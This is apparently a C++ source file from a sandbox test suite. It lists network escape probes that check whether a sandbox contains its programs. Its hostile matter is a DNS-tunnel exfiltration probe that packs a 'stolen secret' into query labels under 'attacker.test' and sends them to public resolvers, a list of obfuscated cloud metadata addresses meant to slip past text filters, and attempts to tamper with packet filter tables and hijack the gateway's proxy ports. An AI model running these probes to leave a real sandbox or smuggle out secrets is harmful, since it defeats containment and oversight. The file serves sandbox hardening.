// From a sandbox that has a gateway: past it. There connecting may seem to work, because every connection ends at the
// gateway; whether anybody else was reached, only the host can tell.
#include <arpa/inet.h>
#include <linux/netfilter_ipv4/ip_tables.h>
#include <linux/netlink.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <string>

#include "suite/programs/addresses.h"
#include "suite/programs/attack.h"

namespace belljar::suite {

namespace {

int stream() { return ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0); }
int datagram() { return ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0); }

constexpr std::array<const char*, 7> kElsewhere{"10.0.0.1",     "172.16.0.1", "192.168.1.1", "100.64.0.1",
                                                "198.18.0.250", "8.8.8.8",    "127.0.0.53"};
// The metadata address of clouds in the spellings that text filters forget.
constexpr std::array<const char*, 8> kMetadata{"169.254.169.254",     "2852039166",    "0xa9fea9fe",
                                               "0251.0376.0251.0376", "169.254.43518", "169.16689662",
                                               "0xa9.254.0251.254",   "169.254.170.2"};

// Connects, says something and gives an answer a moment to come.
bool call_on(const char* address, long port) {
  in_addr parsed{};
  if (::inet_aton(address, &parsed) == 0) return false;
  const sockaddr_in to = ipv4(ntohl(parsed.s_addr), port);
  const int fd = stream();
  timeval patience{1, 0};
  (void)::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
  return fd >= 0 && ::connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 0 && ::send(fd, "x", 1, 0) == 1;
}

template <std::size_t count>
Outcome call_on_all(const std::array<const char*, count>& addresses, long port) {
  int seemed = 0;
  for (const char* address : addresses) seemed += call_on(address, port) ? 1 : 0;
  return done("connected, or so it seemed, to " + std::to_string(seemed) + " of " + std::to_string(count));
}

Outcome elsewhere(const Params& given) { return call_on_all(kElsewhere, given.number("anytcp")); }
Outcome metadata(const Params& given) { return call_on_all(kMetadata, given.number("anytcp")); }

Outcome host_address(const Params& given) {
  const std::string address = given.get("hostaddress");
  if (address.empty()) return unsupported("this host has no address but its loopback");
  return done(call_on(address.c_str(), given.number("anytcp")) ? "connected, or so it seemed" : "not connected");
}

Outcome own_loopback(const Params& given) {
  return done(call_on("127.0.0.1", given.number("tcp4")) ? "connected" : "not connected");
}

Outcome any_address(const Params& given) {
  return done(call_on("0.0.0.0", given.number("tcp4")) ? "connected" : "not connected");
}

Outcome datagrams(const Params& given) {
  const int fd = datagram();
  if (fd < 0) return denied("socket");
  int sent = 0;
  for (const char* address : kElsewhere) {
    in_addr parsed{};
    (void)::inet_aton(address, &parsed);
    const sockaddr_in to = ipv4(ntohl(parsed.s_addr), given.number("anyudp"));
    sent += ::sendto(fd, "x", 1, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 1 ? 1 : 0;
  }
  return done("sent " + std::to_string(sent) + " datagrams");
}

// What a name server of the world would get: the secret in the labels of a question, past the sandbox's own.
Outcome name_tunnel(const Params& given) {
  const int fd = datagram();
  if (fd < 0) return denied("socket");
  std::string question{"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12};
  question +=
      std::string{"\x10"} + "c3RvbGVuIHNlY3Jl" + "\x08" + "attacker" + std::string{"\x04test\x00\x00\x10\x00\x01", 10};
  int sent = 0;
  for (const char* address : {"8.8.8.8", "1.1.1.1", "9.9.9.9"}) {
    in_addr parsed{};
    (void)::inet_aton(address, &parsed);
    const sockaddr_in to = ipv4(ntohl(parsed.s_addr), given.number("anyudp"));
    sent += ::sendto(fd, question.data(), question.size(), 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) > 0;
  }
  return done("asked " + std::to_string(sent) + " name servers");
}

Outcome fast_open(const Params& given) {
  const int fd = stream();
  const sockaddr_in to = ipv4(0x0a000001, given.number("anytcp"));
  if (fd < 0) return denied("socket");
  return done(::sendto(fd, "x", 1, MSG_FASTOPEN, reinterpret_cast<const sockaddr*>(&to), sizeof to) == 1
                  ? "sent before connecting"
                  : "not sent");
}

Outcome second_family(const Params& given) {
  const sockaddr_in6 to = ipv6("::1", given.number("tcp6"));
  const int fd = ::socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return denied("socket");
  return of_call(::connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to), "connect to ::1");
}

Outcome listen_for_host(const Params& given) {
  const int fd = stream();
  const sockaddr_in at = ipv4(INADDR_ANY, given.number("lport"));
  if (fd < 0) return denied("socket");
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&at), sizeof at) != 0) return denied("bind 0.0.0.0");
  if (::listen(fd, 4) != 0) return denied("listen");
  return done("listens on all addresses");
}

Outcome abstract_socket(const Params& given) {
  const auto [address, size] = local(given.get("abstract"));
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return denied("socket");
  return of_call(::connect(fd, reinterpret_cast<const sockaddr*>(&address), size), "connect to an abstract socket");
}

Outcome open_socket(int family, int type, int protocol, const std::string& what) {
  return of_call(::socket(family, type | SOCK_CLOEXEC, protocol), what);
}

Outcome raw(const Params&) { return open_socket(AF_INET, SOCK_RAW, IPPROTO_ICMP, "raw IPv4"); }
Outcome packet(const Params&) { return open_socket(AF_PACKET, SOCK_RAW, 0, "packet socket"); }
Outcome netfilter(const Params&) { return open_socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER, "netlink netfilter"); }
Outcome routing(const Params&) { return open_socket(AF_NETLINK, SOCK_DGRAM, NETLINK_ROUTE, "netlink route"); }
Outcome light_datagram(const Params&) { return open_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE, "UDP-Lite"); }
Outcome multipath(const Params&) { return open_socket(AF_INET, SOCK_STREAM, 262, "multipath TCP"); }

Outcome mark(const Params&) {
  const int value = 7;
  return of_call(::setsockopt(stream(), SOL_SOCKET, SO_MARK, &value, sizeof value), "mark its packets");
}

Outcome foreign_source(const Params&) {
  constexpr int kTransparent = 19;
  const int on = 1;
  return of_call(::setsockopt(stream(), SOL_IP, kTransparent, &on, sizeof on),
                 "send from addresses that are not its own");
}

Outcome old_tables(const Params&) {
  // A table of no entries; the structure ends in an array of no size, which only g++ lets stand on the stack.
  alignas(ipt_replace) std::array<char, sizeof(ipt_replace)> nothing{};
  return of_gate(::setsockopt(stream(), SOL_IP, IPT_SO_SET_REPLACE, nothing.data(), nothing.size()),
                 {EINVAL, ENOENT, ENOMEM, EBADMSG}, "replace the packet filter's tables");
}

Outcome change_interface(const Params&) {
  ifreq request{};
  std::memcpy(request.ifr_name, "lo", 3);
  request.ifr_mtu = 1500;
  return of_call(::ioctl(datagram(), SIOCSIFMTU, &request), "change an interface");
}

// Whoever held these would be taken for the gateway by every other program of the sandbox.
Outcome steal_doors(const Params&) {
  Outcome last;
  for (const long port : {3128L, 1080L, 3129L}) {
    for (const std::uint32_t address : {std::uint32_t{INADDR_LOOPBACK}, std::uint32_t{INADDR_ANY}}) {
      const int fd = stream();
      const int on = 1;
      (void)::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
      (void)::setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &on, sizeof on);
      const sockaddr_in at = ipv4(address, port);
      if (::bind(fd, reinterpret_cast<const sockaddr*>(&at), sizeof at) == 0) {
        return of_call(::listen(fd, 1), "listen at port " + std::to_string(port));
      }
      last = denied("bind port " + std::to_string(port));
      (void)::close(fd);
    }
  }
  return last;
}

constexpr Attack kAttacks[] = {
    {"NET50", own_loopback},    {"NET51", any_address},     {"NET52", elsewhere},
    {"NET53", metadata},        {"NET54", host_address},    {"NET55", datagrams},
    {"NET56", name_tunnel},     {"NET57", fast_open},       {"NET58", second_family},
    {"NET59", listen_for_host}, {"NET60", abstract_socket}, {"NET61", raw},
    {"NET62", packet},          {"NET63", netfilter},       {"NET64", routing},
    {"NET65", light_datagram},  {"NET66", multipath},       {"NET67", mark},
    {"NET68", foreign_source},  {"NET69", old_tables},      {"NET70", change_interface},
    {"NET71", steal_doors},
};

}  // namespace

std::span<const Attack> net_online_attacks() { return kAttacks; }

}  // namespace belljar::suite
